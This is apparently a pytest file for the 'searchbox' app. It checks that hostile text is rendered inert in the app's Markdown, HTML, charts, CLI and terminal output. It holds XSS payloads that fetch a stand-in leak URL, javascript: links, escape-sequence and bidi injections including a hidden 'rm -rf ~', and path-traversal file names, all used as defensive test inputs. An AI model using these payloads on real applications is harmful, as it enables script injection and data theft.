"""Everything the model or a document controls is rendered inert (design §5): the same hostile strings go
through every renderer the app and the CLI have, and no live element, attribute or control code may
come out.

Markdown is rendered to HTML as Gradio's renderer does it (raw HTML passed through, links never
refused: marked has no link check of its own) and the HTML is then parsed: only the app's own tags,
and hrefs that load nothing, may be in it. The browser test (tests/ui/test_browser.py) checks the same
in Chromium against the real app.
"""

from __future__ import annotations

import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import gradio as gr
import pytest
from markdown_it import MarkdownIt

from testkit.scripted_endpoint import Reply, ScriptedEndpoint
from searchbox import inert
from searchbox.cli.main import main
from searchbox.evaluation.report import report_figures, results_frame
from searchbox.jobs.store import JobRecord
from searchbox.records.events import Notice, StepEnd, StepStart, ToolEnd, ToolStart
from searchbox.settings import Settings
from searchbox.tools.registry import REGISTRY
from searchbox.citations.ledger import SourceLedger
from searchbox.tools.tool import ToolContext
from searchbox.ui.answer import render_answer, render_sources
from searchbox.ui.charts import tool_distribution
from searchbox.ui.compare_view import CompareView, SmallSweep
from searchbox.ui.explorer import discard, load_dataroom
from searchbox.ui.feed import Feed
from searchbox.ui.jobs_view import job_heading
from searchbox.ui.panels import Problems

HOST = "127.0.0.1:9"
LEAK = f"http://{HOST}/leak?d=SECRET"
HOSTILE = {
    "img": f'<img src="{LEAK}">',
    "img unquoted": f"<img src=https:{HOST}/pixel>",
    "script": f"<script src={LEAK}></script><script>fetch('{LEAK}')</script>",
    "iframe": f"<iframe src={LEAK}></iframe>",
    "svg onload": f"<svg onload=\"fetch('{LEAK}')\"><image href=\"{LEAK}\"/></svg>",
    "style url()": f'<div style="background:url({LEAK})">x</div><style>@import url({LEAK})</style>',
    "link, video, audio, object": f"<link rel=stylesheet href={LEAK}><video poster={LEAK}><audio src={LEAK}>"
                                  f"<object data={LEAK}></object><embed src={LEAK}><input type=image src={LEAK}>",
    "autolink to an image": f"<{LEAK}.png> and {LEAK}.png",
    "markdown image": f'![chart]({LEAK} "t") ![]({LEAK}) [![badge]({LEAK})]({LEAK}) ![a [b] c]({LEAK})',
    "markdown image reference": f"![x][ref] ![ref]\n\n[ref]: {LEAK}",
    "javascript link": "[click](javascript:alert(1)) [b]( JaVaScRiPt:alert(1)) [c](vbscript:x) "
                       "[d](data:text/html,<script>alert(1)</script>)",
    "javascript reference": "[click][r] and > [q][s]\n\n[r]: javascript:alert(1)\n> [s]:\n> data:text/html,x",
    "html entities": f"&lt;img src={LEAK}&gt; &#60;img src={LEAK}&#62; [e](&#106;avascript:alert(1))",
    "raw a with events": f'<a href="{LEAK}" onclick="alert(1)" onmouseover=alert(1)>a</a>',
    "broken tags": "<<script>script>alert(1)<</script>/script> <scr<script>ipt>",
    "markdown in a code span": f"`![x]({LEAK})` and ``[y](javascript:alert(1)) ` `` `<img src={LEAK}>`",
    "escaped code": f"\\`<img src={LEAK}>\\` `a\n\n<iframe src={LEAK}>\n\nb`",
    "nested fence": f"- a\n  - ```mermaid\n    graph TD\n    A[\"<img src={LEAK}>\"]-->B\n    ```\n\n"
                    "> ```mermaid\n> A\n> ```",
    "fence tricks": f"```` \n<a>\n```\n````\n<img src={LEAK}>\n  ```\n<x>\n```\n<svg onload=alert(1)>\n```",
}
# The tags the app's own markup and Markdown's make, and the attributes they carry.
OWN_TAGS = {"p", "a", "code", "pre", "strong", "em", "br", "ul", "ol", "li", "blockquote", "hr", "h1", "h2", "h3",
            "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "del", "s", "span", "b", "details",
            "summary", "div"}
OWN_ATTRIBUTES = {"href", "class", "title", "id", "style"}  # style: only on cells, from Markdown tables
SCRIPT_LINK = re.compile(r"^[\x00-\x20]*(?:\w+script|data):", re.I)
_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_MARKDOWN.validateLink = lambda url: True  # as marked: every link is made, whatever its scheme


class _Live(HTMLParser):
    """What in a piece of HTML could act: a tag or attribute the app does not make, a script link."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in OWN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in OWN_ATTRIBUTES or (name == "style" and tag not in ("th", "td")):
                self.found.append(f"<{tag} {name}>")
            if name == "href" and SCRIPT_LINK.match(value or ""):
                self.found.append(f"<{tag} href={value}>")
            if name == "class" and "language-mermaid" in (value or ""):
                self.found.append("a mermaid block")  # Gradio draws its labels as HTML

    handle_startendtag = handle_starttag


def live_in_html(html: str) -> list[str]:
    parser = _Live()
    parser.feed(html)
    parser.close()
    return parser.found


def live_in_markdown(markdown: str) -> list[str]:
    return live_in_html(_MARKDOWN.render(markdown))


SOURCES = [{"id": "s1", "kind": "range", "path": "dataroom/a.md", "start": 1, "end": 2, "preview": "x"}]


def feed_markdown(hostile: str) -> list[str]:
    """Every piece of Markdown the activity feed shows, for a run whose every part holds `hostile`."""
    feed = Feed(hostile)
    arguments = {"path": hostile, "content": hostile}
    command = f"'{hostile}' | grep x"
    feed.add(StepStart(turn=1, step=1))
    feed.add(ToolStart(turn=1, step=1, call_id="w", name="write", arguments=arguments))
    feed.add(ToolEnd(turn=1, step=1, call_id="w", name="write", arguments=arguments, preview=hostile, gist=hostile))
    feed.add(ToolStart(turn=1, step=1, call_id="b", name="bash", arguments={"command": command}))
    feed.add(ToolEnd(turn=1, step=1, call_id="b", name="bash", arguments={"command": command}, preview=hostile,
                     details={"exit_code": 0, "programs": [hostile, "grep"]}, gist=hostile))
    feed.add(ToolEnd(turn=1, step=1, call_id="?", name=hostile, raw_arguments=hostile, preview=hostile, is_error=True))
    feed.add(Notice(turn=1, step=1, level="warning", message=hostile))
    feed.add(Notice(turn=1, step=1, level="info", message=hostile))
    feed.add(StepEnd(turn=1, step=1, text=hostile, llm_ms=1))
    messages = feed.messages
    return [m["content"] for m in messages] + [m["metadata"]["title"] for m in messages if "metadata" in m]


MARKDOWN_RENDERERS = {
    "inert.markdown": lambda text: [inert.markdown(text)],
    "inert.literal in the app's Markdown": lambda text: [f"**{inert.literal(text)}**: {inert.literal(text)}"],
    "inert.code in the app's Markdown": lambda text: [f"see {inert.code(text)}."],
    "the answer": lambda text: [render_answer(f"{text} [s1]", SOURCES)],
    "the activity feed": feed_markdown,
    "the Jobs tab's heading": lambda text: [job_heading(JobRecord(id="j", owner="o", question=text))],
    "a panel's problem": lambda text: [_problem(text)],
}


def _problem(text: str) -> str:
    problems = Problems()
    problems.guard("the answer", lambda: (_ for _ in ()).throw(ValueError(text)), None)
    return problems.under("**done**")


@pytest.mark.parametrize("renderer", MARKDOWN_RENDERERS)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_markdown_renderer_lets_anything_live_through(renderer: str, hostile: str) -> None:
    for markdown in MARKDOWN_RENDERERS[renderer](HOSTILE[hostile]):
        assert live_in_markdown(markdown) == [], markdown


def test_the_checker_sees_what_the_renderers_would_let_through() -> None:
    """Held against the hostile strings as they are, the check finds each one live (or it proves nothing)."""
    # A link loads nothing until clicked; code is shown as written (live only once it is rendered wrong).
    harmless = {"autolink to an image", "markdown in a code span"}
    for name, text in HOSTILE.items():
        assert bool(live_in_markdown(text)) == (name not in harmless), name


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_sources_panel_is_html_with_every_value_escaped(hostile: str) -> None:
    text = HOSTILE[hostile]
    source = {"id": "s1", "kind": "chunk", "path": text, "chunk": 0, "start": 0, "end": 1, "label": text, "preview": text}
    assert live_in_html(render_sources([source], ["s1", text])) == []
    assert live_in_html(inert.html(text)) == [] and live_in_html(f'<p title="{inert.html(text)}">') == []


def test_a_literal_is_shown_as_written() -> None:
    shown = _MARKDOWN.renderInline(inert.literal("**a** <b>_c_</b> [d](e) `f` # 1. ![g](h)"))
    assert shown == "**a** &lt;b&gt;_c_&lt;/b&gt; [d](e) `f` # 1. ![g](h)"
    assert _MARKDOWN.renderInline(inert.code("a`b <c>")) == "<code>a`b &lt;c&gt;</code>"


# --- the surfaces, each with the hostile text where it really comes from ------------------------------

def test_the_programs_line_of_a_bash_call_is_inert(tmp_path: Path) -> None:
    """A program named like a tag: its name, parsed from the command line, is on the programs line."""
    command = f"'<img src=https:{HOST}>' 2>/dev/null; echo done"
    result = REGISTRY["bash"].run(ToolContext(tmp_path, SourceLedger()), {"command": command})
    assert result.details["programs"][0] == f"<img src=https:{HOST}>"
    feed = Feed("q")
    feed.add(ToolStart(turn=1, step=1, call_id="c", name="bash", arguments={"command": command}))
    feed.add(ToolEnd(turn=1, step=1, call_id="c", name="bash", arguments={"command": command}, preview=result.text,
                     details=result.details, gist="done"))
    content = feed.messages[-1]["content"]
    assert "programs: " in content and live_in_markdown(content) == []


def test_the_explorer_shows_an_uploads_file_name_as_written(tmp_path: Path, packaged_settings: Settings) -> None:
    upload = tmp_path / "<img src=https:127.0.0.1:9 onerror=alert(1)>.zip"
    with zipfile.ZipFile(upload, "w") as z:
        z.writestr("notes/a.md", "The lease ends in 2029.")
    workspace, summary, _ = load_dataroom(str(upload), packaged_settings, lambda: tmp_path / "explore")
    discard(workspace)
    assert "1 of 1 files read" in summary and live_in_markdown(summary) == []
    name = _MARKDOWN.renderInline(summary.split("**:")[0] + "**")
    assert name == "<strong>&lt;img src=https:127.0.0.1:9 onerror=alert(1)&gt;.zip</strong>"


def test_a_refused_uploads_member_names_are_escaped_in_the_error(tmp_path: Path, packaged_settings: Settings) -> None:
    """Gradio's toast renders a gr.Error's message as HTML."""
    upload = tmp_path / "room.zip"
    with zipfile.ZipFile(upload, "w") as z:
        z.writestr(f"../<img src={LEAK}>.md", "x")
    with pytest.raises(gr.Error) as refused:
        load_dataroom(str(upload), packaged_settings, lambda: tmp_path / "explore")
    assert "points outside the dataroom" in refused.value.message and "&lt;img" in refused.value.message
    assert live_in_html(refused.value.message) == []



def hostile_sweep(folder: Path, name: str) -> Path:
    """A sweep folder anyone could have left: every name in it is `name` (or starts with it)."""
    folder.mkdir(parents=True)
    rows = [{"entry": f"{name}{entry}", "question_id": f"q{i}", "type": name, "overrides": {"searchbox_tools": name},
             "budget": 1, "turns": 1, "tool_counts": {name: 1, "bash": 1}, "bash_programs": {name: 1},
             "tokens": {"input": 10, "output": 1, "cacheRead": 0, "total": 11}, "wall_s": 1.0,
             "score": {"verdict": ("correct", "wrong")[(i + len(entry)) % 2]}}
            for entry in ("A", "B") for i in range(4)]
    (folder / "results.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    methods = {name: {"all": {"R@5": 0.5, f"{name}@1": 0.2}, "by_type": {name: {"R@5": 0.4}}}}
    (folder / "retrieval.json").write_text(json.dumps({"questions": name, "methods": methods}))
    return folder


def tags_in_figure(figure: Any) -> set[str]:
    """The tags in a figure's text, which Plotly reads as its own markup."""
    return set(re.findall(r"<(/?[a-zA-Z]+)", figure.to_json()))


def test_the_compare_tab_shows_a_hostile_sweep_folder_inert(tmp_path: Path) -> None:
    name = "<img src=https:127.0.0.1:9 onerror=alert(1)>`x` **b**"
    settings = Settings.resolve(env={}, searchbox_jobs_dir=str(tmp_path / "jobs"))
    folder = hostile_sweep(tmp_path / "sweeps" / name, name)
    view = CompareView(settings)
    heading, table, pairs, pick_a, pick_b, *figures = view.load(str(folder))
    assert "8 runs" in heading and live_in_markdown(heading) == []
    assert list(table["entry"]) == [f"{name}A", f"{name}B"]  # table cells are text: shown as they are
    verdict = view.compare(str(folder), pick_a["value"], pick_b["value"])
    assert "shared questions" in verdict and live_in_markdown(verdict) == []
    for figure in figures:
        assert tags_in_figure(figure) <= {"br", "extra", "/extra"}, figure.layout.title.text
    assert "&lt;img src=https:127.0.0.1:9 onerror=alert(1)&gt;`x` **b**A" in figures[0].to_json()
    with pytest.raises(gr.Error) as refused:
        view.compare(str(folder), f"{name}A", "<b>nobody</b>")
    assert live_in_html(refused.value.message) == []
    view.sweep = SmallSweep(folder, 0.0, 8, error=f"ValueError: {name}")
    assert live_in_markdown(view.status()) == []


def test_the_dashboards_tool_chart_shows_the_models_names_as_written() -> None:
    figure = tool_distribution({"<img src=x onerror=alert(1)>": 2, "bash": 1},
                               {'<span style="cursor:url(http://127.0.0.1:9/c)">grep</span>': 1})
    assert tags_in_figure(figure) <= {"extra", "/extra"}
    assert "bash: &lt;span style=\\\"cursor" in figure.to_json()
    report = report_figures(results_frame([]), None)
    assert all(tags_in_figure(f) <= {"br", "extra", "/extra"} for f in report.values())


# --- terminal control codes ------------------------------------------------------------------------

CONTROL_CHARACTER = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
TERMINAL = {  # what a program or a document may print -> what is left of it
    "colours": ("\x1b[1;31mred\x1b[0m", "red"),
    "clear the screen, move the cursor": ("\x1b[2J\x1b[H\x1b[10;5Hx\x1b[?25l", "x"),
    "window title (OSC, BEL)": ("\x1b]0;pwned\x07ok", "ok"),
    "hyperlink (OSC 8, ST)": ("\x1b]8;;http://127.0.0.1:9/\x1b\\click\x1b]8;;\x1b\\", "click"),
    "device control string": ("\x1bP+q544e\x1b\\ok", "ok"),
    "C1 CSI and OSC": ("\x9b31mred\x9d0;t\x9cok", "redok"),
    "an unterminated OSC keeps its text": ("\x1b]0;no end\nnext", "0;no end\nnext"),
    "carriage return overwriting a line": ("rm -rf ~\recho hi", "rm -rf ~echo hi"),
    "backspaces": ("ab\x08\x08cd", "abcd"),
    "bidi overrides and isolates": ("a\u202eevil\u202c b\u2066x\u2069", "aevil bx"),
    "reset, charset, lone ESC": ("\x1bc\x1b(0lqk\x1b(Bok\x1b", "lqkok"),
    "NUL, DEL, form feed, vertical tab": ("a\x00b\x7fc\x0cd\x0be", "abcde"),
    "CRLF line ends": ("a\r\nb\r\n", "a\nb\n"),
    "text, tabs, newlines and Unicode stay": ("a\tb\nc é 中 ✓ \u200f", "a\tb\nc é 中 ✓ \u200f"),
}


@pytest.mark.parametrize("case", TERMINAL)
def test_terminal_control_codes_are_stripped(case: str) -> None:
    printed, left = TERMINAL[case]
    assert inert.terminal(printed) == left
    assert not CONTROL_CHARACTER.search(inert.terminal(printed))


def test_bash_output_reaches_the_model_without_control_codes(tmp_path: Path) -> None:
    command = r"printf '\033[2J\033]0;pwned\007\033[31mred\033[0m\rover\n\302\233m\342\200\256x\n'; printf 'tail\n' >&2"
    result = REGISTRY["bash"].run(ToolContext(tmp_path, SourceLedger()), {"command": command})
    assert result.text == "redover\nx\ntail" and not result.is_error


def test_the_cli_prints_tool_results_and_paths_without_control_codes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    room = tmp_path / "room"
    evil = room / "a\x1b]0;pwned\x07\x1b[2Jb.txt"
    room.mkdir()
    evil.write_text("minutes\x1b[31m red \x9b2J\u202eevil\u202c\r\n", encoding="utf-8")
    assert main(["ingest", "--dataroom", str(room)]) == 0
    printed = capsys.readouterr().out
    assert "ab.txt" in printed and not CONTROL_CHARACTER.search(printed)
    assert main(["tool", "read", "--dataroom", str(room), "--args", json.dumps({"path": f"dataroom/{evil.name}"})]) == 0
    printed = capsys.readouterr().out
    assert "minutes" in printed and "evil" in printed and not CONTROL_CHARACTER.search(printed)
    assert main(["tool", "bash", "--dataroom", str(room), "--args", json.dumps({"command": r"printf '\342\200\256\302\2332Jx'"})]) == 0
    printed = capsys.readouterr().out
    assert json.loads(printed)["output"] == "x" and not CONTROL_CHARACTER.search(printed)


def test_a_cli_run_prints_the_models_text_and_tools_without_control_codes(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The terminal view of a run (tool calls, their gists, the answer) quotes the model and the tools."""
    hostile = "\x1b]0;pwned\x07\x1b[2J\u202eevil\u202c\x9b2J"

    def model(body: dict[str, Any]) -> Reply:
        if not any(m["role"] == "tool" for m in body["messages"]):
            return Reply(tool_calls=[{"name": "bash", "arguments": {"command": f"printf '{hostile}'; echo {hostile}"}}])
        return Reply(text=f"The answer {hostile}is here.")

    with ScriptedEndpoint(default=model) as endpoint:
        code = main(["run", "What is it?", "--budget", "1", "--out", str(tmp_path / "job"), "--stream",
                     "--set", f"LLAMA_URL={endpoint.url}", "--set", "MODEL_ID=scripted",
                     "--set", "RETRIEVAL_PRESET=packaged", "--set", f"SEARCHBOX_CACHE_DIR={tmp_path / 'cache'}"])
    printed = capsys.readouterr()
    assert code == 0, printed.err
    assert "→ bash(" in printed.out and "The answer evilis here." in printed.out
    assert not CONTROL_CHARACTER.search(printed.out + printed.err)


# --- what Gradio is told --------------------------------------------------------------------------

def test_every_table_shows_text_and_every_markdown_is_sanitized(tmp_path: Path) -> None:
    """Cells of these datatypes are text nodes; Markdown keeps Gradio's sanitizer as a second line."""
    from searchbox.ui.app import build_app
    from searchbox.ui.services import Services

    settings = Settings.resolve(env={}, searchbox_cache_dir=str(tmp_path / "cache"),
                                searchbox_jobs_dir=str(tmp_path / "jobs"))
    services = Services.start(settings, run_fn=lambda *args: "done")
    try:
        app = build_app(settings, services)
    finally:
        services.scheduler.stop()
    tables = [b for b in app.blocks.values() if isinstance(b, gr.Dataframe)]
    markdown = [b for b in app.blocks.values() if isinstance(b, (gr.Markdown, gr.Chatbot))]
    assert len(tables) >= 5 and len(markdown) >= 10
    for table in tables:
        datatypes = {table.datatype} if isinstance(table.datatype, str) else set(table.datatype)
        assert datatypes <= inert.TEXT_CELL_TYPES, (table.label, table.datatype)
    assert all(block.sanitize_html for block in markdown)
